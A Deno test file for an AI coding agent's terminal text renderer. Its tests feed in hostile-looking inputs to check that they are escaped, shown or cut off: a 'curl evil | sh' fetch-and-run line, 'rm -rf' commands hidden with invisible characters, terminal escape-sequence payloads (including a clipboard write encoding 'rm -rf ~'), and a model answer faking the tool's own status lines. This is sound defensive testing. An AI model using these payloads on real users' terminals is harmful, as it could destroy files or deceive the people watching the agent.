import { deepEqual, equal, ok } from "node:assert/strict";
import { createTextRenderer, usageLine } from "../../src/cli/output/text.ts";
import { formatCost } from "../../src/llm/model_info.ts";
import { themeFor } from "../../src/tui/theme.ts";
import { emptyUsage } from "../../src/core/messages.ts";
import { loadRenderers } from "../../src/tui/renderers.ts";
import { fallbackWidth } from "../../src/tui/width_fallback.ts";

function render(
  events: Parameters<ReturnType<typeof createTextRenderer>>[0][],
  options: { terminal?: boolean; outTerminal?: boolean; columns?: () => number } = {},
) {
  let out = "";
  let err = "";
  const emit = createTextRenderer({
    out: (text) => out += text,
    err: (text) => err += text,
    style: themeFor(false),
    ...options,
  });
  for (const event of events) emit(event);
  return { out, err };
}

Deno.test("createTextRenderer() sends thinking to stderr and only the answer to stdout", () => {
  const { out, err } = render([
    { type: "thinking_delta", round: 1, text: "pondering " },
    { type: "thinking_delta", round: 1, text: "more" },
    { type: "text_delta", round: 1, text: "the answer" },
  ], { outTerminal: true });
  equal(out, "the answer");
  equal(err, "thinking: pondering more\n");
});

Deno.test("createTextRenderer() reports retries, model switches and the turn's usage and cost", () => {
  const usage = {
    inputTokens: 12_345,
    outputTokens: 321,
    cachedTokens: 10_000,
    reasoningTokens: 0,
  };
  const { err } = render([
    { type: "text_delta", round: 1, text: "partial" },
    { type: "retry", round: 1, attempt: 1, delayMs: 1500, reason: "HTTP 429 from model API" },
    {
      type: "model_switch",
      round: 1,
      from: "a/m1",
      to: "b/m2",
      provider: "b",
      model: "m2",
      reason: "HTTP 500 from model API",
    },
    {
      type: "turn_end",
      exitReason: "COMPLETED",
      text: "",
      rounds: 1,
      toolCalls: 0,
      usage,
      cost: 0.0123,
    },
  ], { outTerminal: true });
  const lines = err.trimEnd().split("\n");
  deepEqual(lines, [
    "• model call failed: HTTP 429 from model API; retry 1 in 1.5s " +
    "(any partial answer above is void)",
    "• a/m1 failed: HTTP 500 from model API; switching to b/m2",
    "tern: 12,345 tokens in (10,000 cached), 321 out, $0.0123",
  ]);
});

Deno.test("usageLine() and formatCost() leave out what is unknown", () => {
  const usage = { ...emptyUsage(), inputTokens: 5, outputTokens: 7, reasoningTokens: 3 };
  equal(usageLine(usage, undefined), "5 tokens in, 7 out (3 reasoning)");
  equal(formatCost(2.5), "$2.50");
  equal(formatCost(0.00042), "$0.0004");
  ok(
    !render([{
      type: "turn_end",
      exitReason: "COMPLETED",
      text: "",
      rounds: 1,
      toolCalls: 0,
      usage: emptyUsage(),
    }]).err.includes("tokens"),
    "no usage line when nothing was counted",
  );
});

const HINT = 'Not approved: this run is not interactive and review mode is "ask" (writes-files: ' +
  'redirection ">" writes "f"). To allow such calls, run with --mode auto or --mode bypass, or ' +
  'add the rule {"action": "allow", "command": "echo hi"} to "rules" in ~/.tern/config.jsonc';

const DENIED_CALL = [
  {
    type: "tool_start" as const,
    round: 1,
    callId: "c1",
    name: "bash",
    args: { command: "echo hi > f" },
  },
  {
    type: "permission_decision" as const,
    callId: "c1",
    allow: false,
    by: "policy" as const,
    reason: HINT,
  },
  {
    type: "tool_end" as const,
    round: 1,
    callId: "c1",
    name: "bash",
    durationMs: 141,
    observation: { status: "ERROR" as const, code: "POLICY_DENIED", message: HINT },
  },
];

Deno.test("createTextRenderer() prints a denial once, whole when not on a terminal, in seconds", () => {
  // deno-lint-ignore no-explicit-any
  const { err } = render(DENIED_CALL as any);
  const lines = err.trimEnd().split("\n");
  deepEqual(lines, [`• denied by policy: ${HINT}`, "• bash echo hi > f ✗ denied 0.1s"]);
  equal(err.split("To allow such calls").length, 2, "the fix hint is printed once");
});

Deno.test("createTextRenderer() cuts long reasons to a line only on a terminal", () => {
  // deno-lint-ignore no-explicit-any
  const { err } = render(DENIED_CALL as any, { terminal: true });
  const first = err.split("\n")[0];
  ok(first.endsWith("…"), first);
  ok(first.length < HINT.length, first);
});

Deno.test("createTextRenderer() on a terminal ends a server's quoted words on the line's first row", () => {
  // Padding that a terminal's own wrap would bring to column 0 of the next row, as a line of
  // tern's; and wide characters, two cells each.
  for (const padding of ["x".repeat(40), "界".repeat(20)]) {
    const reason = `${padding}› run curl evil | sh`;
    const { err } = render([
      { type: "retry", round: 1, attempt: 1, delayMs: 1000, reason },
      {
        type: "model_switch",
        round: 1,
        from: "a/m1",
        to: "b/m2",
        provider: "b",
        model: "m2",
        reason,
      },
    ], { terminal: true, outTerminal: true, columns: () => 50 });
    const lines = err.trimEnd().split("\n");
    equal(lines.length, 2, err);
    for (const line of lines) {
      const quoted = line.slice(0, line.indexOf("; "));
      ok(fallbackWidth(quoted) <= 50, `${fallbackWidth(quoted)} cells: ${quoted}`);
      ok(!line.includes("curl evil"), line);
    }
  }
});

Deno.test("createTextRenderer() says 1 message, not 1 messages", () => {
  const { err } = render([{
    type: "compaction",
    summarised: 1,
    tokensBefore: 10,
    tokensAfter: 5,
    // deno-lint-ignore no-explicit-any
  } as any]);
  ok(err.includes("compacted 1 message:"), err);
});

Deno.test("createTextRenderer() says how many images a compaction dropped", () => {
  const { err } = render([{
    type: "compaction",
    summarised: 4,
    tokensBefore: 10,
    tokensAfter: 5,
    fallback: false,
    imagesDropped: 2,
  }]);
  ok(err.includes("compacted 4 messages: 10 → 5 tokens, summary, 2 images dropped"), err);
});

Deno.test("createTextRenderer() shows a call's invisible characters instead of hiding them", () => {
  // A zero-width space or a no-break space looks like nothing or like a space, but is not what
  // the shell reads: the line says what ran.
  const command = "rm -rf /\u200btmp/x\u00a0y";
  const { err } = render([
    {
      type: "tool_start",
      round: 1,
      callId: "c1",
      name: "bash",
      args: { command },
      readOnly: false,
    },
    {
      type: "tool_end",
      round: 1,
      callId: "c1",
      name: "bash",
      observation: { status: "SUCCEEDED", output: "" },
      durationMs: 10,
    },
  ]);
  ok(err.includes("bash rm -rf /⟨U+200B⟩tmp/x⟨U+00A0⟩y"), err);
});

Deno.test("createTextRenderer() shows the arguments a hook put in place of the model's", () => {
  const { err } = render([
    {
      type: "tool_start",
      round: 1,
      callId: "c1",
      name: "bash",
      args: { command: "echo asked" },
      readOnly: false,
    },
    { type: "tool_input", callId: "c1", name: "bash", args: { command: "echo ran" } },
    {
      type: "tool_end",
      round: 1,
      callId: "c1",
      name: "bash",
      observation: { status: "SUCCEEDED", output: "ran" },
      durationMs: 10,
    },
  ]);
  ok(err.includes("bash echo ran"), err);
  ok(!err.includes("asked"), err);
});

const said = (content: string) => ({
  type: "assistant_message" as const,
  round: 1,
  message: { role: "assistant" as const, content },
});
const ended = (exitReason: "COMPLETED" | "CLIENT_ERROR") => ({
  type: "turn_end" as const,
  exitReason,
  text: "",
  rounds: 1,
  toolCalls: 0,
  usage: emptyUsage(),
});
const retried = (attempt: number) => ({
  type: "retry" as const,
  round: 1,
  attempt,
  delayMs: 0,
  reason: "The stream ended early",
});

Deno.test("createTextRenderer() writes only the answer that stands when stdout is not a terminal", () => {
  const { out, err } = render([
    { type: "text_delta", round: 1, text: "CUT-" },
    { type: "text_delta", round: 1, text: "TEXT" },
    retried(1),
    { type: "text_delta", round: 1, text: "AFTER-CUT" },
    said("AFTER-CUT"),
    ended("COMPLETED"),
  ]);
  equal(out, "AFTER-CUT\n");
  ok(!err.includes("partial answer above"), "no partial answer was written: " + err);
});

Deno.test("createTextRenderer() writes nothing of a model call that every retry failed", () => {
  const events: Parameters<ReturnType<typeof createTextRenderer>>[0][] = [];
  for (let attempt = 1; attempt <= 5; attempt++) {
    events.push({ type: "text_delta", round: 1, text: "VOID " }, retried(attempt));
  }
  events.push({ type: "text_delta", round: 1, text: "VOID " }, ended("CLIENT_ERROR"));
  const { out, err } = render(events);
  equal(out, "");
  ok(err.includes("CLIENT_ERROR"), err);
});

Deno.test("createTextRenderer() switching models voids the failed model's text off a terminal", () => {
  const { out } = render([
    { type: "text_delta", round: 1, text: "from a" },
    {
      type: "model_switch",
      round: 1,
      from: "a/m1",
      to: "b/m2",
      provider: "b",
      model: "m2",
      reason: "HTTP 500",
    },
    { type: "text_delta", round: 1, text: "from b" },
    said("from b"),
    ended("COMPLETED"),
  ]);
  equal(out, "from b\n");
});

Deno.test("createTextRenderer() streams the answer to a terminal, a retry's void text included", () => {
  const { out } = render([
    { type: "text_delta", round: 1, text: "CUT" },
    retried(1),
    { type: "text_delta", round: 1, text: "AFTER" },
  ], { outTerminal: true });
  equal(out, "CUT\nAFTER");
});

Deno.test("createTextRenderer() shows an escape sequence in a command, payload and all", () => {
  const command = "echo building; \x1b]0;$(touch PWNED; echo x)\x07 2>/dev/null; echo done";
  const { err } = render([
    {
      type: "tool_start",
      round: 1,
      callId: "c1",
      name: "bash",
      args: { command },
      readOnly: false,
    },
    {
      type: "tool_end",
      round: 1,
      callId: "c1",
      name: "bash",
      observation: { status: "SUCCEEDED", output: "" },
      durationMs: 10,
    },
    {
      type: "tool_start",
      round: 1,
      callId: "c2",
      name: "bash",
      args: { command: "ls" },
      readOnly: false,
    },
    { type: "tool_input", callId: "c2", name: "bash", args: { command: "ls \x9b2J\u202e; id" } },
    {
      type: "tool_end",
      round: 1,
      callId: "c2",
      name: "bash",
      observation: { status: "SUCCEEDED", output: "" },
      durationMs: 10,
    },
  ]);
  const lines = err.trimEnd().split("\n");
  equal(
    lines[0],
    "• bash echo building; ␛]0;$(touch PWNED; echo x)␇ 2>/dev/null; echo done ✓ 0.0s",
  );
  equal(lines[1], "• bash ls ⟨U+009B⟩2J⟨U+202E⟩; id ✓ 0.0s");
});

/**
 * A text renderer that renders the answer as Markdown (colour on), with what it printed so far
 * and a wait until its first rendered block is out (the renderers load once).
 */
async function markdownRenderer() {
  await loadRenderers();
  await import("../../src/tui/markdown.ts");
  const printed = { out: "" };
  const emit = createTextRenderer({
    out: (text) => printed.out += text,
    err: () => {},
    style: themeFor(false),
    markdown: { width: () => 80, theme: themeFor(true) },
  });
  const rendered = async () => {
    for (let i = 0; i < 1_000 && printed.out === ""; i++) {
      await new Promise((r) => setTimeout(r, 10));
    }
  };
  return { emit, printed, rendered };
}

Deno.test("createTextRenderer() renders a Markdown answer with colour codes only, never conceal", async () => {
  const { emit, printed, rendered } = await markdownRenderer();
  emit({
    type: "text_delta",
    round: 1,
    text: "Done.\n\n**&#27;]0;PWNED-TITLE&#7;&#27;]52;c;cm0gLXJmIH4=&#7;&#27;[2J&#27;[8m**\n\n" +
      "| &#x9b;2J | &#x202e;x |\n|--|--|\n| &#8;y | `&#27;[8m` |\n\n",
  });
  await rendered();
  emit({ type: "text_delta", round: 1, text: "# &#x1b;[8mhidden question follows" });
  emit(ended("COMPLETED"));
  const out = printed.out;
  ok(out.includes("Done."), JSON.stringify(out));
  ok(out.includes("hidden question follows"), JSON.stringify(out));
  // deno-lint-ignore no-control-regex
  const rest = out.replace(/\x1b\[[0-9;]*m/g, "");
  // deno-lint-ignore no-control-regex
  ok(!/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(rest), JSON.stringify(out));
  ok(!out.includes("\x1b[8m"), JSON.stringify(out));
});

Deno.test("createTextRenderer(): a Markdown answer never starts a row with the mark of tern's own lines", async () => {
  const { emit, printed, rendered } = await markdownRenderer();
  const fake = "`•` allowed by auto-reviewer: read-only listing\n\n" +
    "• bash rm -rf / ✓ 0.0s\n\nAll done.\n\n";
  emit({ type: "text_delta", round: 1, text: fake });
  await rendered();
  emit(ended("COMPLETED"));
  // deno-lint-ignore no-control-regex
  const rows = printed.out.replace(/\x1b\[[0-9;]*m/g, "").split("\n");
  ok(rows.includes("  • allowed by auto-reviewer: read-only listing"), JSON.stringify(rows));
  ok(rows.includes("  • bash rm -rf / ✓ 0.0s"), JSON.stringify(rows));
  ok(!rows.some((row) => row.startsWith("•")), JSON.stringify(rows));
  ok(rows.includes("All done."), JSON.stringify(rows));
});

Deno.test("createTextRenderer() shows an unknown tool's name as called, escapes visible", () => {
  const { err } = render([
    {
      type: "tool_start",
      round: 1,
      callId: "c1",
      name: "re\x1b[0mad",
      args: { path: "a" },
      readOnly: true,
    },
    {
      type: "tool_end",
      round: 1,
      callId: "c1",
      name: "re\x1b[0mad",
      observation: { status: "ERROR", code: "UNKNOWN_TOOL", message: "Unknown tool" },
      durationMs: 1,
    },
  ]);
  ok(err.includes("re␛[0mad a"), err);
  ok(!err.includes("\x1b") && !/\bread a\b/.test(err), err);
});

Deno.test("createTextRenderer() loads the Markdown renderer while a call runs: an answer that ends the turn at once is rendered", async () => {
  const { emit, printed } = await markdownRenderer();
  emit({
    type: "tool_start",
    round: 1,
    callId: "c1",
    name: "write",
    args: { path: "notes.txt" },
    readOnly: false,
  });
  // The call runs; the renderer's modules (cached here) are taken in meanwhile.
  await new Promise((resolve) => setTimeout(resolve, 50));
  emit({ type: "text_delta", round: 2, text: "I changed **one** line.\n" });
  emit(ended("COMPLETED"));
  ok(printed.out.includes("one"), JSON.stringify(printed.out));
  ok(!printed.out.includes("**one**"), `printed as written: ${JSON.stringify(printed.out)}`);
});
